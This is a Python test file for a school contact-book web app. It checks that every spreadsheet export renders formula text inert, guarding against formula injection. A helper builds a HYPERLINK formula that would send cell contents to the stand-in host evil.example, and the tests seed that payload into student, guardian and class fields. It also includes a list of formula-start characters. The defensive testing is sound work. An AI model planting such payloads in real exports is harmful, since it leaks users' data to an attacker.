"""No spreadsheet the app writes carries a formula: one writer makes every text inert, and every export uses it.

The exports are found in the URL map (a rule ending in .xlsx or .csv, or an endpoint named for an export),
so a new one fails `test_every_export_is_fed_a_formula_in_every_text` until it is listed in `EXPORTS`.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path

import pytest
from flask import Flask
from openpyxl import load_workbook
from openpyxl.worksheet.formula import ArrayFormula

import contactbook
from contactbook.demo.roster_data import generate_roster, to_csv
from contactbook.extensions import db
from contactbook.models import Plan, SchoolClass, SchoolYear, Score
from contactbook.roster.template import HEADERS, roster_xlsx
from contactbook.spreadsheet_export import csv_bytes, inert, new_workbook, xlsx_bytes
from tests.factories import World, login
from tests.grading.factories import GradeWorld, make_grade_world, put_score
from tests.support import browser

# What Excel, LibreOffice or Google Sheets may take for the start of a formula, written out again here so
# that the writer's own list is checked, not trusted.
FORMULA_SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
EVIL = "evil.example"


def hostile(label: str, sign: str = "=") -> str:
    """A formula that, run, would send the reader to an attacker's page; `sign` starts it."""
    return f'{sign}HYPERLINK("http://{EVIL}/?d="&A2,"{label}")'


# --- The one writer -------------------------------------------------------------------------------------

PACKAGE = Path(contactbook.__file__).parent
WRITER = PACKAGE / "spreadsheet_export.py"
# Code that makes a spreadsheet file: an openpyxl workbook (plain or write-only) or a CSV writer.
WRITING = re.compile(r"\bWorkbook\s*\(|WriteOnlyWorksheet|\bcsv\s*\.\s*(writer|DictWriter)\b|from\s+csv\s+import")


def test_only_the_export_module_writes_spreadsheets() -> None:
    offenders = [
        f"{path.relative_to(PACKAGE.parent)}:{number}: {line.strip()}"
        for path in sorted(PACKAGE.rglob("*.py"))
        if path != WRITER
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if WRITING.search(line)
    ]
    assert not offenders, "write spreadsheets with contactbook.spreadsheet_export only:\n" + "\n".join(offenders)


@pytest.mark.parametrize("sign", FORMULA_SIGNS)
def test_a_text_starting_with_a_formula_sign_gets_an_apostrophe(sign: str) -> None:
    assert inert(f"{sign}1+1") == f"'{sign}1+1"


@pytest.mark.parametrize("text", ["Nguyễn Văn An", "a=b", "0912 345 678", "'=1", "8,5", ""])
def test_other_text_is_written_as_it_is(text: str) -> None:
    assert inert(text) == text


def test_a_cell_set_any_way_is_written_inert_and_numbers_stay_numbers() -> None:
    workbook = new_workbook()
    sheet = workbook.active
    sheet.append([hostile("appended"), 8.5, -3, Decimal("7.25"), None])
    sheet["A2"] = hostile("assigned")
    sheet["B2"] = ArrayFormula("B2", "=SUM(A1:A2)")
    other = workbook.create_sheet("Khác")
    other.cell(row=1, column=1, value="＝1+1")

    read = load_workbook(io.BytesIO(xlsx_bytes(workbook)))

    first, second = read.worksheets
    assert [cell.value for cell in first[1]] == [f"'{hostile('appended')}", 8.5, -3, 7.25]
    assert (first["A2"].value, first["B2"].value) == (f"'{hostile('assigned')}", "'=SUM(A1:A2)")
    assert second["A1"].value == "'＝1+1"
    assert all(cell.data_type != "f" for sheet in read.worksheets for row in sheet.iter_rows() for cell in row)


def test_a_workbook_made_elsewhere_is_not_written() -> None:
    from openpyxl import Workbook

    with pytest.raises(TypeError):
        xlsx_bytes(Workbook())


def test_a_csv_has_every_text_field_inert_and_numbers_as_written() -> None:
    content = csv_bytes(["=Họ tên", "Điểm"], [[hostile("An"), 8.5], ["@SUM(A1)", -2], ["Bình", None]])

    assert content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows == [["'=Họ tên", "Điểm"], [f"'{hostile('An')}", "8.5"], ["'@SUM(A1)", "-2"], ["Bình", ""]]


def test_the_demo_roster_files_go_through_the_writer() -> None:
    rows = generate_roster((("6A1", 6),), 1, year_start=2025, seed=1)
    rows[0]["Họ và tên"] = hostile("An")

    sheet = load_workbook(io.BytesIO(roster_xlsx(rows))).active
    lines = list(csv.reader(io.StringIO(to_csv(rows).decode("utf-8-sig"))))

    assert sheet.cell(row=2, column=HEADERS.index("Họ và tên") + 1).value == f"'{hostile('An')}"
    assert lines[1][HEADERS.index("Họ và tên")] == f"'{hostile('An')}"


# --- Every export, fed a formula in every text -------------------------------------------------------


@dataclass(frozen=True)
class Export:
    """Who downloads an export, the URLs to download (from the world), and whether user text is in it."""

    username: str
    urls: Callable[[GradeWorld], list[str]]
    carries_text: bool = True
    school: str | None = "alpha"  # where the account logs in (None: a platform account)


A = "/s/alpha"
EXPORTS: dict[str, Export] = {
    "roster.class_export": Export("admin", lambda gw: [f"{A}/classes/{gw.roster.school_class.id}/export.xlsx"]),
    "grades.export": Export(
        "teacher",
        lambda gw: [
            f"{A}/grades/class/{gw.roster.school_class.id}/subject/{subject.id}/semester/{number}/grid.xlsx"
            for subject in (gw.maths, gw.music)
            for number in (1, 2)
        ],
    ),
    "grades.summary_export": Export(
        "homeroom", lambda gw: [f"{A}/grades/class/{gw.roster.school_class.id}/summary.xlsx"]
    ),
    "attendance_exports.month_export": Export(
        "homeroom", lambda gw: [f"{A}/attendance/classes/{gw.roster.school_class.id}/month.xlsx?month=2025-12"]
    ),
    "reports.export": Export("admin", lambda gw: [f"{A}/service/reports/export.xlsx?year={gw.roster.year.id}"]),
    "roster_import.template": Export("admin", lambda gw: [f"{A}/roster/import/template.xlsx"], carries_text=False),
    "oversight.export": Export("officer", lambda gw: ["/platform/authority/oversight/export.xlsx"], school=None),
}


def export_endpoints(app: Flask) -> set[str]:
    return {
        rule.endpoint
        for rule in app.url_map.iter_rules()
        if rule.rule.endswith((".xlsx", ".csv", ".xls", ".ods")) or "export" in rule.endpoint
    }


def hostile_world(people_world: World) -> GradeWorld:
    """The grade world with a formula in every text an export may show: school, year, class, subjects,
    students and their ids, guardians, plans, comments; written straight to the rows, as old data might be."""
    gw = make_grade_world(people_world.a)
    gw.people.school.name = hostile("Trường", "+")
    for year in db.session.scalars(db.select(SchoolYear).where(SchoolYear.school_id == gw.people.school.id)):
        year.name = "-2025+2026"  # 20 characters at most
    for school_class in db.session.scalars(db.select(SchoolClass).where(SchoolClass.school_id == gw.people.school.id)):
        school_class.name = "@SUM(6A1)"  # 20 characters at most
    for subject, sign in ((gw.maths, "="), (gw.music, "\t"), (gw.literature, "＝")):
        subject.name = hostile(subject.name, sign)
    for student, sign in ((gw.an, "="), (gw.cuong, "+"), (gw.hoa, "-")):
        student.full_name = hostile(student.full_name, sign)
    gw.hoa.national_id = "+790100000003"
    for guardian, sign in ((gw.mother, "@"), (gw.father, "=")):
        guardian.full_name = hostile(guardian.full_name, sign)
    for plan in db.session.scalars(db.select(Plan).where(Plan.school_id == gw.people.school.id)):
        plan.name = hostile(plan.name, "\r")
    db.session.commit()
    put_score(gw, gw.an, gw.maths, gw.first, "gk", "8,5")
    music = put_score(gw, gw.an, gw.music, gw.second, "kq", level="dat")
    music.comment = hostile("Nhận xét", "-")
    db.session.execute(db.update(Score).where(Score.id == music.id).values(comment=music.comment))
    db.session.commit()
    return gw


def formulas_in(content: bytes, mimetype: str) -> tuple[list[str], int]:
    """The cells of a downloaded file that a spreadsheet would run, and how many cells hold the hostile text."""
    found: list[str] = []
    carried = 0
    if mimetype == "text/csv":
        for number, row in enumerate(csv.reader(io.StringIO(content.decode("utf-8-sig"))), start=1):
            for value in row:
                carried += EVIL in value
                if value.startswith(FORMULA_SIGNS):
                    found.append(f"line {number}: {value!r}")
        return found, carried
    workbook = load_workbook(io.BytesIO(content))  # formulas kept as formulas (data_only off)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                text = str(cell.value) if cell.value is not None else ""
                carried += EVIL in text
                if cell.data_type == "f" or text.startswith(FORMULA_SIGNS):
                    found.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/") and re.search(rb"<(\w+:)?f[ >]", package.read(name)):
                found.append(f"{name}: a <f> element")
    return found, carried


def test_every_export_of_the_url_map_is_listed_here(app: Flask) -> None:
    unlisted = export_endpoints(app) - set(EXPORTS)
    assert not unlisted, f"exports not fed a formula by {__name__}: add them to EXPORTS: {sorted(unlisted)}"


def test_every_export_is_fed_a_formula_in_every_text(app: Flask, world: World) -> None:
    gw = hostile_world(world)
    failures: list[str] = []
    for endpoint in sorted(export_endpoints(app) & set(EXPORTS)):
        export = EXPORTS[endpoint]
        client = browser(app)
        assert login(client, export.username, export.school).status_code == 302
        for url in export.urls(gw):
            response = client.get(url)
            if response.status_code != 200:
                failures.append(f"{url}: answered {response.status_code}")
                continue
            found, carried = formulas_in(response.get_data(), response.mimetype)
            failures += [f"{url}: {cell}" for cell in found]
            if export.carries_text and not carried:
                failures.append(f"{url}: none of the hostile texts reached the file")
    assert not failures, "\n".join(failures)
